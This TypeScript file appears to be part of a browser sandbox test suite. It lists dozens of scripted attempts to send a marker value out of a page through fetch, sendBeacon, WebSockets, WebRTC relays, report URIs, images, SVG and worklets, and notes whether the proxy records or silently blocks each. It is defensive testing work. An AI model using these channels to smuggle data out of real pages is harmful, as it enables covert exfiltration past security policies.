/** Requests of the page itself. */
import { element, type EscapeClass } from './escape.ts';

export const NETWORK: EscapeClass = {
  name: 'requests by script',
  entries: [
    {
      id: 'fetch',
      tries: 'fetch',
      outcome: 'recorded',
      control: true,
      script: (at) => `await fetch('${at.http}'); return 'out: answered'`,
    },
    {
      id: 'fetch-no-cors',
      tries: 'fetch without looking at the answer',
      outcome: 'recorded',
      control: true,
      script: (at) => `await fetch('${at.http}', { mode: 'no-cors', credentials: 'include' })`,
    },
    {
      id: 'fetch-keepalive',
      tries: 'fetch that outlives the page',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `await fetch('${at.http}', { method: 'POST', mode: 'no-cors', keepalive: true, body: '${at.needle}' })`,
    },
    {
      id: 'fetch-number',
      tries: 'fetch to an address by number',
      outcome: 'recorded',
      control: true,
      records: [['request-blocked', '(masked)']],
      script: (at) => `await fetch('${at.ip}', { mode: 'no-cors' })`,
    },
    {
      id: 'fetch-six',
      tries: 'fetch to an IPv6 address',
      outcome: 'recorded',
      records: [['request-blocked', '(masked)']],
      script: (at) => `await fetch('${at.ip6}', { mode: 'no-cors' })`,
    },
    {
      id: 'fetch-https',
      tries: 'fetch over TLS',
      outcome: 'recorded',
      control: true,
      script: (at) => `await fetch('${at.https}', { mode: 'no-cors' })`,
    },
    {
      id: 'fetch-user',
      tries: 'fetch with words as user name and password',
      outcome: 'silent',
      why: 'an address with a user name is refused before anything is asked',
      script: (at) => `await fetch('${at.http.replace('//', `//${at.needle}:${at.needle}@`)}', { mode: 'no-cors' })`,
    },
    {
      id: 'fetch-stream',
      tries: 'fetch with a body that goes on and on',
      outcome: 'recorded',
      script: (at) =>
        `await fetch('${at.https}', { method: 'POST', duplex: 'half', body: new Blob(['${at.needle}']).stream() })`,
    },
    {
      id: 'fetch-later',
      tries: 'fetchLater, sent when the page goes',
      outcome: 'silent',
      why: 'switched off by Permissions-Policy, which reports nothing for it',
      script: (at) =>
        `if (!isThere(window, 'fetchLater')) return 'absent'; fetchLater('${at.https}', { activateAfter: 0 })`,
    },
    {
      id: 'xhr',
      tries: 'XMLHttpRequest',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const x = new XMLHttpRequest(); x.open('GET', '${at.http}'); x.send(); await new Promise((end) => { ` +
        'x.onloadend = end })',
    },
    {
      id: 'xhr-sync',
      tries: 'XMLHttpRequest that the page waits for',
      outcome: 'recorded',
      control: true,
      records: [['permission-denied', 'sync-xhr']],
      script: (at) => `const x = new XMLHttpRequest(); x.open('GET', '${at.http}', false); x.send()`,
    },
    {
      id: 'websocket',
      tries: 'WebSocket',
      outcome: 'recorded',
      control: true,
      script: (at) => `new WebSocket('${at.ws}'); await wait(50)`,
    },
    {
      id: 'websocket-tls',
      tries: 'WebSocket over TLS',
      outcome: 'recorded',
      control: true,
      script: (at) => `new WebSocket('${at.wss}', ['${at.needle}']); await wait(50)`,
    },
    {
      id: 'websocket-stream',
      tries: 'WebSocketStream',
      outcome: 'recorded',
      script: (at) =>
        `if (!isThere(window, 'WebSocketStream')) return 'absent'; await new WebSocketStream('${at.ws}').opened; ` +
        `return 'out: open'`,
    },
    {
      id: 'eventsource',
      tries: 'EventSource',
      outcome: 'recorded',
      control: true,
      script: (at) => `const s = new EventSource('${at.http}'); await wait(50); s.close()`,
    },
    {
      id: 'beacon',
      tries: 'sendBeacon',
      outcome: 'recorded',
      control: true,
      script: (at) => `navigator.sendBeacon('${at.http}', '${at.needle}'); await wait(50)`,
    },
    {
      id: 'webtransport',
      tries: 'WebTransport',
      outcome: 'recorded',
      script: (at) => `await new WebTransport('${at.https}').ready; return 'out: ready'`,
    },
    {
      id: 'webrtc-stun',
      tries: 'a call that asks a STUN server by UDP',
      outcome: 'silent',
      control: true,
      why: 'no datagram may leave around the proxy, so none is tried',
      script: (at) => call(`stun:127.0.0.1:${at.port}`),
    },
    {
      id: 'webrtc-turn-udp',
      tries: 'a call through a TURN relay by UDP',
      outcome: 'silent',
      control: true,
      why: 'no datagram may leave around the proxy, so none is tried',
      script: (at) => call(`turn:127.0.0.1:${at.port}?transport=udp`),
    },
    {
      id: 'webrtc-turn-tcp',
      tries: 'a call through a TURN relay by TCP',
      outcome: 'recorded',
      control: true,
      records: [['request-blocked', '(masked)']],
      script: (at) => call(`turn:127.0.0.1:${at.port}?transport=tcp`),
    },
    {
      id: 'webrtc-turn-name',
      tries: 'a call through a TURN relay, with words in its name',
      outcome: 'recorded',
      script: (at) => call(`turn:${at.host}:${at.port}?transport=tcp`),
    },
    {
      id: 'webrtc-turns',
      tries: 'a call through a TURN relay by TLS',
      outcome: 'recorded',
      script: (at) => call(`turns:${at.host}:${at.port}?transport=tcp`),
    },
    {
      id: 'webrtc-peer',
      tries: 'a call to a peer at an address of its own',
      outcome: 'silent',
      control: true,
      why: 'no datagram may leave around the proxy, so none is tried',
      script: (
        at,
      ) => `const p = new RTCPeerConnection(); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());
    const print = /a=fingerprint:(.*)/.exec(p.localDescription.sdp)[1].trim();
    await p.setRemoteDescription({ type: 'answer', sdp: p.localDescription.sdp.replace('a=setup:actpass', 'a=setup:active').split('\\r\\n').filter((l) => !l.startsWith('a=candidate')).join('\\r\\n') });
    await p.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 127.0.0.1 ${at.port} typ host', sdpMid: '0' }); await wait(900); p.close()`,
    },
    {
      id: 'report-to',
      tries: "a report of a violation, by a policy of the page's own",
      outcome: 'recorded',
      script: (at) =>
        `add('meta', { 'http-equiv': 'Content-Security-Policy', content: "img-src 'none'; report-uri ${at.http}" ` +
        `}, document.head); new Image().src = '${at.http}'`,
    },
    {
      id: 'background-fetch',
      tries: 'a download in the background',
      outcome: 'silent',
      script: (at) =>
        `if (!isThere(window, 'BackgroundFetchManager')) return 'absent'; const r = await ` +
        `navigator.serviceWorker.getRegistration(); if (r === undefined) return 'refused: no worker'; await ` +
        `r.backgroundFetch.fetch('x', ['${at.http}']); return 'out: begun'`,
      why: 'it needs a service worker, and there is none',
    },
    {
      id: 'wasm-streaming',
      tries: 'a program compiled as it arrives',
      outcome: 'recorded',
      control: true,
      script: (at) => `await WebAssembly.compileStreaming(fetch('${at.http}.wasm'))`,
    },
    {
      id: 'image',
      tries: 'an image',
      outcome: 'recorded',
      control: true,
      script: (at) => `new Image().src = '${at.http}'; await wait(50)`,
    },
    {
      id: 'image-srcset',
      tries: 'an image that is chosen by size',
      outcome: 'recorded',
      control: true,
      script: element('img', 'srcset', (at) => `${at.http} 1x, ${at.http}2 2x`),
    },
    {
      id: 'image-attribution',
      tries: 'an image whose seeing is attributed',
      outcome: 'recorded',
      records: [['request-blocked', 'img-src: data']],
      script: element('img', 'attributionsrc', (at) => at.https, { src: 'data:,' }),
    },
    {
      id: 'svg-image',
      tries: 'an image inside a drawing',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const s = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); const i = ` +
        `document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', '${at.http}'); ` +
        's.append(i); document.body.append(s)',
    },
    {
      id: 'svg-feimage',
      tries: 'an image inside a filter',
      outcome: 'recorded',
      control: true,
      script: (at) =>
        `const s = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); const f = ` +
        `document.createElementNS('http://www.w3.org/2000/svg', 'filter'); const i = ` +
        `document.createElementNS('http://www.w3.org/2000/svg', 'feImage'); i.setAttribute('href', ` +
        `'${at.http}'); f.append(i); s.append(f); document.body.append(s)`,
    },
    {
      id: 'svg-use',
      tries: 'a drawing taken from another origin',
      outcome: 'silent',
      why: 'the browser takes no drawing from another origin',
      script: (at) =>
        `const s = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); const u = ` +
        `document.createElementNS('http://www.w3.org/2000/svg', 'use'); u.setAttribute('href', '${at.http}#x'); ` +
        's.append(u); document.body.append(s); await wait(50)',
    },
    {
      id: 'video',
      tries: 'a video',
      outcome: 'recorded',
      control: true,
      script: element('video', 'src', (at) => `${at.http}.mp4`, { preload: 'auto' }),
    },
    {
      id: 'video-poster',
      tries: 'the picture of a video',
      outcome: 'recorded',
      control: true,
      script: element('video', 'poster', (at) => at.http),
    },
    {
      id: 'audio',
      tries: 'a sound',
      outcome: 'recorded',
      control: true,
      script: element('audio', 'src', (at) => `${at.http}.mp3`, { preload: 'auto' }),
    },
    {
      id: 'track',
      tries: 'subtitles',
      outcome: 'recorded',
      script: (at) =>
        `const v = add('video', { src: 'data:video/mp4,' }); const t = add('track', { src: '${at.http}', ` +
        `default: '', kind: 'subtitles' }, v); t.track.mode = 'showing'; await wait(100)`,
    },
    {
      id: 'object',
      tries: 'an object',
      outcome: 'recorded',
      control: true,
      records: [['script-blocked', 'require-trusted-types-for: trusted-types-sink']],
      script: element('object', 'data', (at) => `${at.http}.png`),
    },
    {
      id: 'embed',
      tries: 'an embedded document',
      outcome: 'recorded',
      records: [['script-blocked', 'require-trusted-types-for: trusted-types-sink']],
      script: (at) => `add('embed', { src: '${at.http}.html' })`,
    },
    {
      id: 'input-image',
      tries: 'a button with an image',
      outcome: 'recorded',
      control: true,
      script: element('input', 'src', (at) => at.http, { type: 'image' }),
    },
    {
      id: 'icon',
      tries: 'the icon of the window',
      outcome: 'recorded',
      script: (at) => `add('link', { rel: 'icon', href: '${at.http}.png' }, document.head); await wait(100)`,
    },
    {
      id: 'stylesheet',
      tries: 'a style sheet',
      outcome: 'recorded',
      control: true,
      script: (at) => `add('link', { rel: 'stylesheet', href: '${at.http}.css' }, document.head); await wait(50)`,
    },
    {
      id: 'manifest',
      tries: 'a manifest',
      outcome: 'silent',
      why: 'the window is no installed application, so no program reads it',
      script: (at) => `add('link', { rel: 'manifest', href: '${at.http}' }, document.head); await wait(100)`,
    },
    {
      id: 'script',
      tries: 'a script from another origin',
      outcome: 'recorded',
      control: true,
      records: [['script-blocked', 'require-trusted-types-for: trusted-types-sink']],
      script: (at) =>
        `const s = document.createElement('script'); s.src = '${at.http}.js'; document.head.append(leave(s)); ` +
        'await wait(50)',
    },
    {
      id: 'script-svg',
      tries: 'a script inside a drawing',
      outcome: 'recorded',
      control: true,
      records: [['script-blocked', 'require-trusted-types-for: trusted-types-sink']],
      script: (at) =>
        `const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', ` +
        `'${at.http}.js'); const g = leave(document.createElementNS('http://www.w3.org/2000/svg', 'svg')); ` +
        'g.append(s); document.body.append(g); await wait(50)',
    },
    {
      id: 'import',
      tries: 'import()',
      outcome: 'recorded',
      control: true,
      script: (at) => `await import('${at.http}.js'); return 'out: ran'`,
    },
    {
      id: 'worklet',
      tries: 'a worklet for sound',
      outcome: 'silent',
      control: true,
      why: 'refused by the policy of the page, which reports nothing for it',
      script: (at) =>
        `await new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('${at.http}.js'); return 'out: ran'`,
    },
    {
      id: 'paint-worklet',
      tries: 'a worklet for painting',
      outcome: 'silent',
      control: true,
      why: 'refused by the policy of the page, which reports nothing for it',
      script: (at) => `await CSS.paintWorklet.addModule('${at.http}.js'); return 'out: ran'`,
    },
  ],
};

function call(server: string): string {
  return (
    `const p = new RTCPeerConnection({ iceServers: [{ urls: '${server}', username: 'u', credential: 'c' }] }); ` +
    `p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await wait(900); p.close()`
  );
}
